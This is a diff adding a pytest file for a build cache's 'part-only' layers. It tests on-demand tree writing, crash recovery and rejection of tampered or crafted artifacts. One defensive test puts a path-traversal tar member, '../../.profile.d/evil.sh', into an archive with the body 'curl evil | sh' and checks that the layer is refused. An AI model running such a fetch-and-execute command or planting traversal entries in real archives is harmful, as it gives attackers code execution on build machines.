@@ -1,0 +1,237 @@
+"""Part-only layers (layer_artifact.py): a layer pulled or imported from another cache
+is kept as its verified part, index and stub, and its tree is written only when a
+step needs it (``ensure_tree``). Quick tests on a small dependency layer carried
+through an OCI layout; the fresh-runner build itself is in
+test_registry_fresh_runner.py.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from slugbuild import records
+from slugbuild.cache import FILE_INDEX, PART_ONLY, TREE, Cache, Layer
+from slugbuild.layer_artifact import (
+    STUB,
+    LayoutStore,
+    ensure_tree,
+    fetch_artifact,
+    is_layer_dir,
+    make_artifact,
+    materialise,
+    namespace,
+    part_listing,
+    part_problems,
+    push_artifact,
+)
+from slugbuild.pack import LayerPart, prepare_layer_part
+from slugbuild.platform_info import current as current_platform
+from slugbuild.stack_compat import STACK_RECORD, _layer_elf_files
+
+SPACE = namespace(current_platform().key)
+KEY = "c" * 64
+NAME = KEY[:24]
+SITE = "lib/python3.12/site-packages"
+FILES = {
+    f"{SITE}/demo/__init__.py": b"from .core import answer\n",
+    f"{SITE}/demo/core.py": b"answer = 42\n",
+    f"{SITE}/demo-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+    f"{SITE}/demo-1.0.dist-info/entry_points.txt": b"[console_scripts]\ndemo = demo.core:main\n",
+    "bin/demo": b"#!/bin/sh\nexec python -m demo\n",
+}
+
+
+def _record(files: dict[str, bytes]) -> bytes:
+    lines = []
+    for rel, data in sorted(files.items()):
+        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+        lines.append(f"{os.path.relpath(rel, SITE)},sha256={digest},{len(data)}")
+    lines.append("demo-1.0.dist-info/RECORD,,")
+    return ("\n".join(lines) + "\n").encode()
+
+
+def _source_layer(root: Path) -> Layer:
+    """A published dependency layer with its kept part and ELF record, as a runner
+    that built it has them."""
+    cache = Cache(root)
+    with cache.lock("layers", NAME), cache.new_layer("layers", NAME, KEY, {"format": 1},
+                                                     records.layer_problems, {}) as tree:
+        for rel, data in {**FILES, f"{SITE}/demo-1.0.dist-info/RECORD": _record(FILES)}.items():
+            (tree / rel).parent.mkdir(parents=True, exist_ok=True)
+            (tree / rel).write_bytes(data)
+        (tree / "bin/demo").chmod(0o755)
+        (tree / "bin/demo-again").symlink_to("demo")
+        (tree / "share/empty").mkdir(parents=True)
+    layer = cache.lookup("layers", NAME, KEY)
+    assert layer is not None
+    prepare_layer_part(LayerPart(".heroku/python", layer.tree, layer.packed_parts))
+    _layer_elf_files(layer.tree, layer.packed_parts / STACK_RECORD)
+    return layer
+
+
+@pytest.fixture
+def pulled(tmp_path: Path) -> tuple[Cache, Layer, Layer]:
+    """(the puller's cache, its part-only layer, the source layer)."""
+    source = _source_layer(tmp_path / "source")
+    artifact = make_artifact(source, SPACE)
+    assert artifact is not None
+    store = LayoutStore(tmp_path / "layout", create=True)
+    push_artifact(store, artifact)
+    fetched = fetch_artifact(store, SPACE, "layers", KEY)
+    assert fetched is not None
+    cache = Cache(tmp_path / "puller")
+    with cache.lock("layers", NAME):
+        layer = materialise(cache, fetched, records.layer_problems, part_only=True)
+    return cache, layer, source
+
+
+def test_a_pulled_layer_is_part_only_and_its_tree_is_written_on_demand(pulled) -> None:
+    cache, layer, source = pulled
+    assert layer.lazy and not layer.tree.exists() and is_layer_dir(layer.path)
+    assert not (layer.path / FILE_INDEX).exists() and part_problems(layer) == []
+    stub = layer.path / STUB
+    stubbed = sorted(str(p.relative_to(stub)) for p in stub.rglob("*") if not p.is_dir())
+    assert stubbed == sorted([f"{SITE}/demo/__init__.py", f"{SITE}/demo-1.0.dist-info/METADATA",
+                              f"{SITE}/demo-1.0.dist-info/RECORD",
+                              f"{SITE}/demo-1.0.dist-info/entry_points.txt", "bin/demo",
+                              "bin/demo-again"])
+    # Exported again as it is, it is the artifact it came from, byte for byte.
+    again, original = make_artifact(layer, SPACE), make_artifact(source, SPACE)
+    assert again is not None and original is not None and again.manifest == original.manifest
+    # A view's listing: links into the stub for what it holds, else to the tree's paths.
+    listing = part_listing(layer)
+    assert listing.target(f"{SITE}/demo") == str(stub / SITE / "demo")
+    assert listing.target(f"{SITE}/demo/core.py") == str(layer.tree / SITE / "demo/core.py")
+    assert ("empty", True) in listing.children("share")
+    assert cache.lookup("layers", NAME, KEY, lazy=True) == layer
+
+    written = ensure_tree(cache, layer)
+    assert not written.lazy and (written.tree / "bin/demo").read_bytes() == FILES["bin/demo"]
+    assert os.readlink(written.tree / "bin/demo-again") == "demo"
+    assert (written.tree / "share/empty").is_dir() and os.access(written.tree / "bin/demo",
+                                                                 os.X_OK)
+    assert cache.verify(written, records.layer_problems) == []
+    # Complete now: a caller that does not ask for part-only layers finds it as any other.
+    found = cache.lookup("layers", NAME, KEY)
+    assert found is not None and found.tree.is_dir() and not found.lazy
+
+
+_CRASH = """
+import os, sys
+from slugbuild.cache import Cache
+from slugbuild.layer_artifact import ensure_tree
+cache = Cache(sys.argv[1])
+layer = cache.lookup("layers", sys.argv[2], sys.argv[3], lazy=True)
+os.rename = lambda *args: os._exit(9)  # killed with every file written, before the rename
+ensure_tree(cache, layer)
+"""
+
+
+def test_a_crash_while_the_tree_is_written_leaves_it_part_only(pulled) -> None:
+    cache, layer, _ = pulled
+    crashed = subprocess.run([sys.executable, "-c", _CRASH, str(cache.root), NAME, KEY],
+                             check=False)
+    assert crashed.returncode == 9
+    assert not layer.tree.exists() and (layer.path / PART_ONLY).is_file()
+    left = [entry.name for entry in (cache.root / "tmp").iterdir() if ".tree-" in entry.name]
+    assert left  # the dead process's scratch, with the tree it was writing
+    healed = Cache(cache.root)  # a next build: the dead owner's scratch goes
+    assert not [entry for entry in (cache.root / "tmp").iterdir() if ".tree-" in entry.name]
+    found = healed.lookup("layers", NAME, KEY)
+    assert found is not None and (found.tree / f"{SITE}/demo/core.py").read_bytes() == \
+        FILES[f"{SITE}/demo/core.py"]
+    assert healed.verify(found, records.layer_problems) == []
+
+
+def _tamper_part(layer: Layer) -> None:
+    [gz] = layer.packed_parts.glob("*.gz")
+    data = bytearray(gz.read_bytes())
+    data[len(data) // 2] ^= 0x55
+    gz.write_bytes(bytes(data))
+
+
+def _tamper_stub(layer: Layer) -> None:
+    (layer.path / STUB / SITE / "demo-1.0.dist-info/METADATA").write_bytes(
+        b"Metadata-Version: 2.1\nName: demo\nVersion: 6.6.6\n")
+
+
+def _tamper_stub_list(layer: Layer) -> None:
+    """The record says METADATA is not stubbed, and the stub lacks it: a package
+    would vanish from slug.json's list."""
+    record = json.loads((layer.path / PART_ONLY).read_text())
+    record["stub"].remove(f"{SITE}/demo-1.0.dist-info/METADATA")
+    (layer.path / PART_ONLY).write_text(json.dumps(record))
+    (layer.path / STUB / SITE / "demo-1.0.dist-info/METADATA").unlink()
+
+
+def _tamper_index(layer: Layer) -> None:
+    record = json.loads((layer.path / PART_ONLY).read_text())
+    record["index"]["files"][f"{SITE}/demo/core.py"][2] = "0" * 64
+    (layer.path / PART_ONLY).write_text(json.dumps(record))
+
+
+@pytest.mark.parametrize("tamper", [_tamper_part, _tamper_stub, _tamper_stub_list,
+                                    _tamper_index],
+                         ids=["part", "stub", "stub-list", "index"])
+def test_a_tampered_part_only_layer_is_refused(pulled, tamper) -> None:
+    """Whatever of a part-only layer is changed (its part, the stub slug.json's package
+    list is read from, its index), it is never used: it is discarded, and the build
+    makes or pulls it again."""
+    cache, layer, _ = pulled
+    tamper(layer)
+    found, problems = cache.lookup_verified("layers", NAME, KEY, records.layer_problems,
+                                            lazy=True)
+    if found is not None:  # the index's change shows once the tree is checked against it
+        assert tamper is _tamper_index and problems == []
+        assert cache.lookup("layers", NAME, KEY) is None
+    else:
+        assert problems
+        cache.discard(layer)
+    assert not layer.path.exists() and not (layer.path.parent / NAME / TREE).exists()
+
+
+
+@pytest.mark.parametrize("extra", [{}, {"../../.profile.d/evil.sh": b"curl evil | sh\n"}],
+                         ids=["backdoored", "outside"])
+def test_a_part_unlike_its_index_is_never_kept_part_only(tmp_path: Path,
+                                                         extra: dict[str, bytes]) -> None:
+    """A build's pull checks every member of the part against the index before keeping
+    it part-only: a file with other bytes than listed (not one slug.json reads), or a
+    member outside the layer, and nothing is kept for slugs."""
+    import gzip
+    import io
+    import tarfile
+
+    from slugbuild.layer_artifact import ArtifactInvalid, Fetched
+
+    source = _source_layer(tmp_path / "source")
+    artifact = make_artifact(source, SPACE)
+    assert artifact is not None
+    store = LayoutStore(tmp_path / "layout", create=True)
+    push_artifact(store, artifact)
+    fetched = fetch_artifact(store, SPACE, "layers", KEY)
+    assert fetched is not None
+    raw = io.BytesIO()
+    sent = {**FILES, f"{SITE}/demo-1.0.dist-info/RECORD": _record(FILES),
+            f"{SITE}/demo/core.py": b"answer = 0x2a\n", **extra}
+    with tarfile.open(fileobj=raw, mode="w") as tar:
+        for rel, data in sent.items():
+            info = tarfile.TarInfo(f"./.heroku/python/{rel}")
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+        link = tarfile.TarInfo("./.heroku/python/bin/demo-again")
+        link.type, link.linkname = tarfile.SYMTYPE, "demo"
+        tar.addfile(link)
+    crafted = Fetched(fetched.config, fetched.index, gzip.compress(raw.getvalue()))
+    cache = Cache(tmp_path / "puller")
+    with pytest.raises(ArtifactInvalid), cache.lock("layers", NAME):
+        materialise(cache, crafted, records.layer_problems, part_only=True)
+    assert cache.lookup("layers", NAME, KEY, lazy=True) is None
